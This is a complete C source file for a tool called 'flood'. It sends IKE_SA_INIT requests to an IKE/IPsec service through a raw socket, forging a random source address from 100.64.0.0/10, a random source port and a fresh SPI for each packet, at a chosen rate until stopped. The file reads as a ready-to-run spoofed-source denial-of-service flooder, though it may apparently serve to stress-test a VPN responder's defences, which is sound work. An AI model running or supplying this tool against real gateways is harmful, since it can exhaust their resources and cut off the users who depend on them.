/* Sends one IKE_SA_INIT request again and again, each time from another forged address and port, under another SPI.
 *
 *   flood SERVICE_ADDRESS PACKETS_PER_SECOND < MESSAGE
 *
 * The sources are of 100.64.0.0/10. Needs CAP_NET_RAW. Goes on until SIGTERM, and then prints how many were sent. */
#define _GNU_SOURCE /* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 32, MESSAGE = 1400, IKE_PORT = 500, SPI = 8 };
static const uint32_t SOURCES = 100u << 24 | 64u << 16, SOURCES_MASK = (1u << 22) - 1;

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    unsigned char message[MESSAGE];
} __attribute__((packed));

static struct packet packets[BATCH];
static struct iovec io[BATCH];
static struct mmsghdr messages[BATCH];
static volatile sig_atomic_t stopped;

static void stop(int signal)
{
    (void)signal;
    stopped = 1;
}

static uint64_t random_word(void)
{
    static uint64_t state = 0x9e3779b97f4a7c15;
    state ^= state << 13;
    state ^= state >> 7;
    return state ^= state << 17;
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void forge(struct packet *packet)
{
    uint64_t source = random_word(), spi = random_word();
    packet->ip.saddr = htonl(SOURCES | ((uint32_t)source & SOURCES_MASK));
    packet->udp.source = htons(1024 + (source >> 32) % 60000);
    memcpy(packet->message, &spi, SPI);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    struct sockaddr_in service = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[1])};
    double per_second = atof(argv[2]);
    long sent = 0;
    unsigned char message[MESSAGE];
    size_t size = fread(message, 1, sizeof message, stdin);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), room = 16 << 20;
    if (size < SPI || fd < 0 || setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room)) {
        perror("flood");
        return 1;
    }
    for (int i = 0; i < BATCH; i++) {
        /* The kernel fills in the length, the identification and the checksum of IP; UDP needs none in IPv4. */
        packets[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
        packets[i].ip.daddr = service.sin_addr.s_addr;
        packets[i].udp = (struct udphdr){.dest = htons(IKE_PORT), .len = htons(sizeof(struct udphdr) + size)};
        memcpy(packets[i].message, message, size);
        io[i] = (struct iovec){&packets[i], sizeof packets[i].ip + sizeof packets[i].udp + size};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &service, .msg_namelen = sizeof service, .msg_iov = &io[i], .msg_iovlen = 1};
    }
    signal(SIGTERM, stop);
    double start_s = now_s();
    while (!stopped) {
        double ahead_s = (double)sent / per_second - (now_s() - start_s);
        if (ahead_s > 0) {
            usleep((useconds_t)(ahead_s * 1e6) + 1);
            continue;
        }
        for (int i = 0; i < BATCH; i++)
            forge(&packets[i]);
        int n = sendmmsg(fd, messages, BATCH, 0);
        if (n < 0 && errno != ENOBUFS && errno != EINTR) {
            perror("flood");
            return 1;
        }
        sent += n > 0 ? n : 0;
    }
    printf("%ld\n", sent);
    return 0;
}
